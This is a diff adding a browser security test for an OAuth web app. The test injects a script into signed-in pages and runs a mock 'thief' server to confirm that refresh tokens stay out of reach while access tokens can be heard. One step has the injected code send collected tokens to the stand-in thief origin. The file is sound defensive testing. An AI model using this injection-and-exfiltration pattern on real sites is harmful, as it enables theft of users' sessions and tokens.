@@ -1,0 +1,81 @@
+import assert from "node:assert/strict";
+import { after, before, describe, it } from "node:test";
+import { bundle } from "../../packages/browser/src/testing/bundle.ts";
+import { type Listening, listenFetch } from "../../packages/resource/src/testing/listen.ts";
+import type { Browser, BrowserContext } from "../../packages/server/src/testing/browser.ts";
+import { launchChromium } from "./a-chromium.ts";
+import { type AStage, notes, staged, waitFor } from "./a-stage.ts";
+import { leaks } from "./leaks.ts";
+
+/** What a thief's server was sent. */
+async function aThief(): Promise<Listening & { readonly sent: string[] }> {
+  const sent: string[] = [];
+  const listening = await listenFetch(async (request) => {
+    sent.push(`${request.url} ${JSON.stringify([...request.headers])} ${await request.text()}`);
+    const { origin } = new URL(request.url);
+    const endpoints = { authorization_endpoint: origin, token_endpoint: origin, revocation_endpoint: origin };
+    const headers = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" };
+    return Response.json({ issuer: origin, ...endpoints }, { headers });
+  });
+  return { ...listening, sent };
+}
+
+describe("a script injected into the page", () => {
+  let browser: Browser;
+  let script: string;
+  let thief: Awaited<ReturnType<typeof aThief>>;
+  before(async () => {
+    browser = await launchChromium();
+    script = await bundle("testing/injected.ts");
+    thief = await aThief();
+  });
+  after(async () => {
+    await browser.close();
+    await thief.close();
+  });
+
+  /** A whole stay: sign-in, calls, refreshes, a second tab, a reload, a wider sign-in. Then all that the script got. */
+  async function loot(stage: AStage, context: BrowserContext): Promise<string> {
+    const page = await stage.signedIn(context);
+    const other = await context.newPage();
+    await other.goto(stage.app.origin);
+    await waitFor(other, "signed-in");
+    for (const tab of [page, other]) {
+      stage.api.state.refused.add(stage.calls.at(-1)?.body.access_token ?? "");
+      assert.equal((await notes(tab)).status, 200);
+    }
+    await other.reload();
+    await waitFor(other, "signed-in");
+    assert.equal((await notes(other)).status, 200);
+    const found = [await page.evaluate("sweep()"), await other.evaluate(`sweep("${thief.origin}")`)];
+    assert.equal(new Set(stage.refreshTokens()).size, stage.calls.length, "each call gave one of its own");
+    assert.ok(stage.refreshTokens().length >= 3);
+    return [...found, ...thief.sent].join("\n");
+  }
+
+  const held = (stage: AStage, text: string) => stage.refreshTokens().filter((token) => text.includes(token));
+
+  for (const { kind, hidden } of [
+    { kind: "one worker for all tabs", hidden: "" },
+    { kind: "a worker for each tab", hidden: "delete globalThis.SharedWorker;" },
+  ]) {
+    it(`hears every access token and finds no refresh token: ${kind}`, () =>
+      staged(browser, { before: `${hidden}{${script}}` }, async (stage, context) => {
+        const text = await loot(stage, context);
+        const access = stage.calls.flatMap(({ body }) => body.access_token ?? []);
+        assert.ok(
+          access.some((token) => text.includes(token)),
+          "it did not listen at all",
+        );
+        assert.deepEqual(held(stage, text), []);
+      }));
+  }
+
+  // Each leak is built in once: a hunt that finds nothing there would find nothing anywhere.
+  for (const { leak, changes } of leaks) {
+    it(`would find it ${leak}`, () =>
+      staged(browser, { before: `{${script}}`, workerBundle: { changes } }, async (stage, context) => {
+        assert.notDeepEqual(held(stage, await loot(stage, context)), []);
+      }));
+  }
+});
